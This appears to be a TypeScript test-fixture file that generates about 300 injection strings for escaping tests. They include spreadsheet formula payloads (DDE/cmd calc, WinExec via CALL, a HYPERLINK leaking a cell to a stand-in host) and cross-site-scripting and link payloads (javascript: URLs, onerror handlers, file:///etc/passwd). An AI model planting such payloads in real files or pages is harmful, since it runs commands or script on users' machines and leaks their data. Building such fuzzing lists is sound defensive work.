/** 200 texts that a spreadsheet could interpret as a formula. */
export function formulaPayloads(): string[] {
  const starts = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "=-+@"];
  const bodies = [
    "1+1",
    "SUM(A1:A9)",
    'HYPERLINK("https://example.com/?x="&A1,"open")',
    "cmd|' /C calc'!A0",
    'IMPORTXML("https://example.com","//a")',
    'WEBSERVICE("https://example.com")',
    'DDE("cmd";"/C calc";"x")',
    "1+1;</t></is></c><c><f>1+1</f></c>",
    "@SUM(1)",
    "2+5+cmd|'/C notepad'!A0",
    'INDIRECT("A1")',
    'RTD("x",,"y")',
    "'1+1",
    "1E9",
    'CALL("kernel32","WinExec","JCJ","calc",1)',
    'FILTERXML("<a/>","//a")',
    '"&EXEC("calc")&"',
    'A1&" <f>1</f>"',
    "-1+1",
    'REGISTER("x")',
  ];
  return starts.flatMap((start) => bodies.map((body) => `${start}${body}`));
}

/** 100 texts that would run or load something if a format did not escape them. */
export function scriptPayloads(): string[] {
  const urls = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\nscript:alert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//example.com/x.js",
    "\\\\example.com\\share",
    "ms-word:ofe|u|https://example.com/a.docm",
  ];
  const shapes = [
    (url: string) => `[click](${url})`,
    (url: string) => `[click](<${url}> "title\\" onclick=alert(1)")`,
    (url: string) => `<${url}>`,
    (url: string) => `![alt](${url})`,
    (url: string) => `[click][hostile]\n\n[hostile]: ${url}`,
    (url: string) => `<a href="${url}" onclick="alert(1)">x</a>`,
    (url: string) => `<img src="${url}" onerror="alert(1)">`,
    (url: string) => `<iframe src='${url}'></iframe><script>alert(1)</script>`,
    (url: string) => `</title></style></text><svg/onload=alert(1)><!--${url}-->`,
    (url: string) => `"><script src="${url}"></script>]]><w:instrText>DDEAUTO</w:instrText>`,
  ];
  return urls.flatMap((url) => shapes.map((shape) => shape(url)));
}
